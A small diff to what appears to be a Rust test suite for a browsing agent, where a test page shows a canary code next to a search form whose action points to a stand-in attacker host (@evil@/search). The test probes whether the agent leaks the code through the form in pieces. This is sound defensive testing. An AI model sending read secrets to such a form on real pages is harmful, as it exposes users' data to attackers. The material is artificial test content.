@@ -53,7 +53,7 @@ fn in_pieces() -> Vec<Case> {
             "what was read leaves in pieces",
             "<p>Your code is @canary@</p><form action=@evil@/search><input name=q aria-label=Field><button>Search</button></form>",
         )
-        // What the receiving site shows itself would be no secret to it.
+        // A text that the receiving site shows itself would be no secret to it.
         .page("/take", "<p>Thanks")
         .start("@mail@/")
         .moves([look()])
